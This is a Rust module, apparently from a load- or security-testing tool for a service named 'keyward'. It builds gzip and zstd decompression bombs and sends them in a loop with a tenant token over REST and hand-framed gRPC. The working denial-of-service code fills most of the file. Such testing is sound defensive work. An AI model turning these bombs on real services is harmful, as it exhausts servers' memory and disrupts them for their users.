//! Zip bombs: bodies of about a megabyte and less that decompress to gigabytes of one byte, over
//! REST in gzip and zstd and over gRPC as a compressed message. They are sent with the token of a
//! tenant, since a request without one is rejected before its body is decompressed, or after the
//! first four kilobytes of it.

use std::io::{self, Write};
use std::sync::Arc;
use std::time::Instant;

use flate2::Compression;
use flate2::write::DeflateEncoder;
use serde_json::Value;
use tokio::io::BufReader;
use tokio::net::TcpStream;

use super::frames::{self, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD};
use super::header_flood::count_frames;
use super::{AttackArgs, Attacker, count_statuses, storm};
use crate::Outcome;

/// Decompressed size of a gzip bomb, in bytes: the maximum for a body of less than a mebibyte.
const GZIP_BYTES: usize = 960 * 1024 * 1024;
/// Decompressed size of the bombs over gRPC, in bytes: the maximum for HTTP/2's first window.
const SMALL_GZIP_BYTES: usize = 48 * 1024 * 1024;
const SMALL_ZSTD_BYTES: usize = 1800 * 1024 * 1024;
/// Repeated part of a gzip bomb, in bytes.
const PART_BYTES: usize = 16 * 1024 * 1024;
/// Decompressed size of a zstd bomb, in bytes.
const ZSTD_BYTES: usize = 8 * 1024 * 1024 * 1024;
/// Maximum size of a zstd block, in bytes.
const ZSTD_BLOCK_BYTES: usize = 128 * 1024;
/// Content of the bombs: JSON allows unlimited white space.
const FILL: u8 = b' ';

#[derive(Debug, clap::Args)]
pub(crate) struct ZipBombArgs {
    #[command(flatten)]
    attack: AttackArgs,
    /// Session token of the attacker.
    #[arg(long, env = "LOADTEST_TOKEN", hide_env_values = true)]
    token: String,
}

/// Bombs, created once.
struct Bombs {
    gzip: Vec<u8>,
    zstd: Vec<u8>,
    small_gzip: Vec<u8>,
    small_zstd: Vec<u8>,
    token: String,
}

pub(crate) async fn run(args: ZipBombArgs) -> Outcome<Value> {
    let bombs = Arc::new(Bombs {
        gzip: gzip(GZIP_BYTES)?,
        zstd: zstd(ZSTD_BYTES),
        small_gzip: gzip(SMALL_GZIP_BYTES)?,
        small_zstd: zstd(SMALL_ZSTD_BYTES),
        token: args.token,
    });
    Ok(storm(&args.attack, |attacker| {
        let bombs = Arc::clone(&bombs);
        async move {
            while attacker.goes_on() {
                let _ = send(&attacker, &bombs).await;
            }
        }
    })
    .await)
}

async fn send(attacker: &Attacker, bombs: &Bombs) -> io::Result<()> {
    let stream = attacker.connect().await?;
    let since = Instant::now();
    let ended = match attacker.number % 4 {
        0 => over_rest(attacker, stream, bombs, "gzip", &bombs.gzip).await,
        1 => over_rest(attacker, stream, bombs, "zstd", &bombs.zstd).await,
        2 => over_grpc(attacker, stream, bombs, "gzip", &bombs.small_gzip).await,
        _ => over_grpc(attacker, stream, bombs, "zstd", &bombs.small_zstd).await,
    };
    attacker.ended(since, ended.is_err()).await;
    ended
}

async fn over_rest(
    attacker: &Attacker,
    stream: TcpStream,
    bombs: &Bombs,
    encoding: &str,
    body: &[u8],
) -> io::Result<()> {
    let (reading, mut writing) = stream.into_split();
    let answers = count_statuses(reading, Arc::clone(&attacker.tally), None);
    let head = format!(
        "POST /apikeys HTTP/1.1\r\nhost: keyward.test\r\nauthorization: Bearer {}\r\n\
         content-type: application/json\r\ncontent-encoding: {encoding}\r\ncontent-length: {}\r\n\
         connection: close\r\n\r\n",
        bombs.token,
        body.len()
    );
    let writing = async move {
        attacker.send(&mut writing, head.as_bytes()).await?;
        attacker.send(&mut writing, body).await?;
        attacker.sent(1);
        // The response ends the connection.
        std::future::pending::<io::Result<()>>().await
    };
    tokio::select! {
        ended = writing => ended,
        () = answers => Err(io::ErrorKind::UnexpectedEof.into()),
    }
}

async fn over_grpc(
    attacker: &Attacker,
    stream: TcpStream,
    bombs: &Bombs,
    encoding: &str,
    body: &[u8],
) -> io::Result<()> {
    let (reading, mut writing) = stream.into_split();
    let bearer = format!("Bearer {}", bombs.token);
    let path = "/keyward.v1.ApiKeyService/CreateApiKey";
    let fields = [
        ("authorization", bearer.as_str()),
        ("content-type", "application/grpc"),
        ("grpc-encoding", encoding),
        ("te", "trailers"),
    ];
    let block = frames::request("POST", path, &fields);
    let mut message = vec![1];
    message.extend_from_slice(&u32::try_from(body.len()).unwrap_or(u32::MAX).to_be_bytes());
    message.extend_from_slice(body);
    let writing = async move {
        let mut out = frames::opening(&[]);
        frames::frame(&mut out, HEADERS, END_HEADERS, 1, &block);
        for part in message.chunks(MAX_PAYLOAD) {
            frames::frame(&mut out, DATA, 0, 1, part);
        }
        frames::frame(&mut out, DATA, END_STREAM, 1, &[]);
        attacker.send(&mut writing, &out).await?;
        attacker.sent(1);
        std::future::pending::<io::Result<()>>().await
    };
    tokio::select! {
        ended = writing => ended,
        ended = count_frames(attacker, BufReader::new(reading)) => ended,
    }
}

/// Returns a gzip file of one member (RFC 1952).
fn gzip(bytes: usize) -> io::Result<Vec<u8>> {
    let part = vec![FILL; PART_BYTES];
    let mut of_part = crc32fast::Hasher::new();
    of_part.update(&part);
    let mut checksum = crc32fast::Hasher::new();
    // The first part, flushed to a whole byte; each further part has the same encoding, so the
    // compression runs at most twice.
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&part)?;
    encoder.flush()?;
    let first = encoder.get_ref().len();
    encoder.write_all(&part)?;
    encoder.flush()?;
    let again = encoder.get_ref()[first..].to_vec();
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    out.extend_from_slice(&encoder.get_ref()[..first]);
    checksum.combine(&of_part);
    for _ in 1..bytes / PART_BYTES {
        out.extend_from_slice(&again);
        checksum.combine(&of_part);
    }
    // An empty last block.
    out.extend_from_slice(&[3, 0]);
    out.extend_from_slice(&checksum.finalize().to_le_bytes());
    let length = u32::try_from(bytes).unwrap_or(u32::MAX);
    out.extend_from_slice(&length.to_le_bytes());
    Ok(out)
}

/// Returns a zstd frame of blocks that each repeat one byte (RFC 8878): four bytes for each 128
/// KiB.
fn zstd(bytes: usize) -> Vec<u8> {
    const REPEATED: u32 = 1;
    // A window of 128 KiB, without length and checksum.
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3];
    let blocks = bytes / ZSTD_BLOCK_BYTES;
    let size = u32::try_from(ZSTD_BLOCK_BYTES).unwrap_or_default();
    for block in 1..=blocks {
        let last = u32::from(block == blocks);
        let head = (size << 3 | REPEATED << 1 | last).to_le_bytes();
        out.extend_from_slice(&head[..3]);
        out.push(FILL);
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests may panic")]
mod tests {
    use super::*;

    #[test]
    fn bombs_are_small_and_valid() {
        for (bytes, most) in [(GZIP_BYTES, 1024 * 1024), (SMALL_GZIP_BYTES, 65_000)] {
            let bomb = gzip(bytes).unwrap();
            assert!(bomb.len() < most, "{}", bomb.len());
            let mut reading = flate2::read::GzDecoder::new(bomb.as_slice());
            let read = std::io::copy(&mut reading, &mut std::io::sink());
            assert_eq!(read.unwrap(), bytes as u64);
        }
        assert!(zstd(ZSTD_BYTES).len() < 1024 * 1024);
        assert!(zstd(SMALL_ZSTD_BYTES).len() < 65_000);
    }
}
